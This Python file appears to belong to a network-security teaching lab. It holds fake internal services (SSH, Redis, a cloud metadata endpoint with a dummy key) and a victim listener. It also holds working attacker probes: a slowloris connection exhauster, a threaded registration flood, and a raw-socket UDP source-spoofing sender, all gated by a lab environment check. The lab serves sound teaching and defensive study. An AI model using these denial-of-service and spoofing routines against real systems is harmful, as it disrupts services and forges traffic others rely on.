"""The attack demo's small programs: fake services, a victim, and the attacker's probes.

Run only by ``attacks.py``, inside the namespaces it creates (each refuses to
run elsewhere: it needs the lab's mark in its environment). Every one stops by
itself: each wait is bounded, and services serve for ``--for`` seconds.

    tools.py services --for S               fake internal services on this namespace's lo
    tools.py victim --for S                 counts TCP connections and UDP datagrams
    tools.py echo HOST:PORT --for S         a naive UDP server: answers every datagram
    tools.py send HOST:PORT LINE...         one TCP connection per line, prints the replies
    tools.py slowloris HOST:PORT N S        N connections that send one byte, held S seconds
    tools.py flood HOST:PORT LINE N [--from IP]  N registrations, 10 at a time; tallies replies
    tools.py spoof SRC:PORT DST:PORT TEXT   one UDP datagram with a forged source (raw socket)
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

LAB_MARK = "CBL_NETNS_LAB"
BANNERS = {
    2222: b"SSH-2.0-OpenSSH_9.6 internal-admin\r\n",
    6379: b"-NOAUTH redis 7.2 internal cache: authentication required\r\n",
}
METADATA = (
    b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n"
    b"AccessKeyId=AKIADEMO0000SECRET SecretAccessKey=demo/not-a-real-key\r\n"
)


def hostport(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def say(text: str) -> None:
    print(text, flush=True)


def _serve_banner(sock: socket.socket, banner: bytes) -> None:
    while True:
        try:
            conn, _ = sock.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(1.0)
            try:
                conn.sendall(banner)
            except OSError:
                pass


def services(seconds: float) -> None:
    """Internal services reachable only from inside this namespace (its lo)."""
    sockets = []
    for (host, port), banner in [
        *((("127.0.0.1", p), b) for p, b in BANNERS.items()),
        (("169.254.169.254", 80), METADATA),
    ]:
        s = socket.create_server((host, port))
        sockets.append(s)
        threading.Thread(target=_serve_banner, args=(s, banner), daemon=True).start()
    say("services listening: 127.0.0.1:2222 ssh, 127.0.0.1:6379 redis, 169.254.169.254:80")
    time.sleep(seconds)


def victim(seconds: float) -> None:
    """Prints one line per TCP connection or UDP datagram that reaches it (port 8080/8081)."""
    tcp = socket.create_server(("0.0.0.0", 8080))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 8081))

    def take_tcp() -> None:
        while True:
            conn, peer = tcp.accept()
            with conn:
                conn.settimeout(1.0)
                try:
                    data = conn.recv(200)
                except OSError:
                    data = b""
            say(f"victim tcp from {peer[0]}:{peer[1]}: {data[:60]!r}")

    def take_udp() -> None:
        while True:
            data, peer = udp.recvfrom(4096)
            say(f"victim udp from {peer[0]}:{peer[1]} {len(data)} bytes: {data[:60]!r}")

    for fn in (take_tcp, take_udp):
        threading.Thread(target=fn, daemon=True).start()
    say("victim listening: tcp 8080, udp 8081")
    time.sleep(seconds)


def echo(where: str, seconds: float) -> None:
    """A naive UDP server: it answers every datagram, even a reply."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(hostport(where))
    sock.settimeout(0.2)
    say(f"echo listening on {where}")
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data, peer = sock.recvfrom(4096)
        except TimeoutError:
            continue
        count += 1
        sock.sendto((b"bad request: " + data)[:400], peer)
    say(f"echo answered {count} datagrams")


def _exchange(target: tuple[str, int], line: str, timeout: float, source: str = "") -> str:
    try:
        with socket.create_connection(target, timeout=timeout, source_address=(source, 0)) as s:
            s.sendall(line.encode() + b"\n")
            chunks = []
            while True:
                data = s.recv(4096)
                if not data:
                    break
                chunks.append(data)
        return b"".join(chunks).decode(errors="replace").strip() or "(closed, no reply)"
    except TimeoutError:
        return "(no reply: timed out)"
    except OSError as e:
        return f"(no reply: {e.strerror or e})"


def send(where: str, lines: list[str]) -> None:
    for line in lines:
        say(f"sent {line!r} -> {_exchange(hostport(where), line, 3.0)}")


def slowloris(where: str, n: int, seconds: float) -> None:
    """N connections that trickle a registration one byte per 0.1 s, for ``seconds``.

    Well inside the registry's quiet period (250 ms), or a stall of this process on a
    busy host lets it frame the part sent so far as a whole request."""
    line = b"10.88.0.66:15000 student=slow-loris-" * 10  # never ends within the time
    held, answers = [], Counter[str]()
    for _ in range(n):
        try:
            held.append(socket.create_connection(hostport(where), timeout=1.0))
        except OSError:
            answers["(connect failed)"] += 1
    say(f"slowloris: {len(held)} connections open, trickling one byte each per 0.1 s")
    sent, end = 0, time.monotonic() + seconds
    while held and time.monotonic() < end:
        for s in list(held):
            s.setblocking(False)
            try:
                data = s.recv(512)
                answers[" ".join(data.decode(errors="replace").split()[:2]) or "(closed)"] += 1
                held.remove(s)
                s.close()
                continue
            except BlockingIOError:
                pass
            except OSError:
                answers["(reset)"] += 1
                held.remove(s)
                s.close()
                continue
            try:
                s.send(line[sent % len(line) : sent % len(line) + 1])
            except OSError:
                pass
        sent += 1
        time.sleep(0.1)
    answers["(still held open)"] += len(held)
    for s in held:
        s.close()
    tally = ", ".join(f"{k} x{v}" for k, v in sorted(answers.items()) if v)
    say(f"slowloris result: {tally}")


def flood(where: str, line: str, n: int, source: str) -> None:
    with ThreadPoolExecutor(10) as pool:
        replies = list(pool.map(lambda _: _exchange(hostport(where), line, 1.5, source), range(n)))
    tally = Counter(" ".join(r.split()[:2]) if not r.startswith("(") else r for r in replies)
    say("flood: " + ", ".join(f"{k} x{v}" for k, v in tally.most_common()))


def spoof(src: str, dst: str, text: str) -> None:
    """One UDP datagram from a forged source; attacks.py runs this only over lo."""
    (sh, sp), (dh, dp) = hostport(src), hostport(dst)
    payload = text.encode()
    udp = struct.pack("!HHHH", sp, dp, 8 + len(payload), 0) + payload  # checksum 0: none
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(sh),
        socket.inet_aton(dh),
    )
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(ip + udp, (dh, 0))
    say(f"spoofed {len(payload)} bytes {sh}:{sp} -> {dh}:{dp}")


def main(argv: list[str]) -> int:
    import os

    if LAB_MARK not in os.environ:
        print("tools.py runs only inside the attack demo's namespaces", file=sys.stderr)
        return 2
    cmd, args = argv[0], argv[1:]
    seconds = float(args[args.index("--for") + 1]) if "--for" in args else 0.0
    if cmd == "services":
        services(seconds)
    elif cmd == "victim":
        victim(seconds)
    elif cmd == "echo":
        echo(args[0], seconds)
    elif cmd == "send":
        send(args[0], args[1:])
    elif cmd == "slowloris":
        slowloris(args[0], int(args[1]), float(args[2]))
    elif cmd == "flood":
        flood(
            args[0],
            args[1],
            int(args[2]),
            args[args.index("--from") + 1] if "--from" in args else "",
        )
    elif cmd == "spoof":
        spoof(args[0], args[1], args[2])
    else:
        print(f"unknown command {cmd}", file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
